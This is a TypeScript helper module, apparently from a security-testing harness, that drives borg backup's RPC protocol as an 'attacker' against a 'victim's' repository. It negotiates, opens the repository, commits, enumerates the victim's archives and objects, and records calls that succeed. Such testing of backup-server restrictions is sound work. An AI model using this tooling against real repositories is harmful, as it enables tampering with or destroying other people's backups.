import type { Attacker, Stranger } from "./attack";
import type { Judged } from "./judge";
import type { Packable } from "./msgpack";
import type { RawRpc, Reply } from "./raw-rpc";

/** Object id of the list of archives. */
export const MANIFEST = Buffer.alloc(32);

/** What a borg of that version says first. */
export const HELLO = { client_data: { client_version: [1, 2, 4] } };

/** `open` as `borg create` calls it, and what is different this time. */
export function openArguments(attacker: Attacker, different: { [key: string]: Packable } = {}) {
  return {
    ...{ path: attacker.remotePath, create: false, lock_wait: 20, lock: true, exclusive: true },
    ...{ append_only: false, make_parent_dirs: false, ...different },
  };
}

/** A session that has opened the victim's repository, or was told why not. */
export async function openSession(
  attacker: Attacker,
  different: { [key: string]: Packable } = {},
  through: Pick<Stranger, "connect"> = attacker,
): Promise<{ rpc: RawRpc; opened: Reply }> {
  const rpc = through.connect();
  await rpc.call("negotiate", HELLO);
  const opened = await rpc.call("open", openArguments(attacker, different));
  return { rpc, opened };
}

/** Opens, does this, and closes whatever happened. */
export async function inSession<T>(
  attacker: Attacker,
  work: (rpc: RawRpc) => Promise<T>,
  different: { [key: string]: Packable } = {},
): Promise<T> {
  const { rpc } = await openSession(attacker, different);
  try {
    return await work(rpc);
  } finally {
    await rpc.close();
  }
}

/** `commit` as `borg create` calls it: only a server compacts. */
export const COMMIT = { save_space: false, compact: false };

/** Puts the changes in force. */
export const commit = (rpc: RawRpc, different: { [key: string]: Packable } = {}) =>
  rpc.call("commit", { ...COMMIT, ...different });

export const idOf = (archive: Judged | undefined): Buffer => Buffer.from(archive?.id ?? "", "hex");

/** A chunk of the oldest archive; every later one shares it. */
export const chunkOf = (attacker: Attacker): Buffer =>
  Buffer.from(attacker.archives[0]?.objects.at(-1) ?? "", "hex");

/** The item stream of the oldest archive. */
export const itemsOf = (attacker: Attacker): Buffer =>
  Buffer.from(attacker.archives[0]?.objects[0] ?? "", "hex");

/** Everything the victim has stored, archives first. */
export function allObjects(attacker: Attacker): Buffer[] {
  const ids = attacker.archives.flatMap((archive) => [archive.id, ...archive.objects]);
  return [...new Set(ids)].map((id) => Buffer.from(id, "hex"));
}

/** `words` when the call was carried out. */
export const gainedBy = (reply: Reply, words: string): string | null =>
  reply.kind === "result" ? words : null;
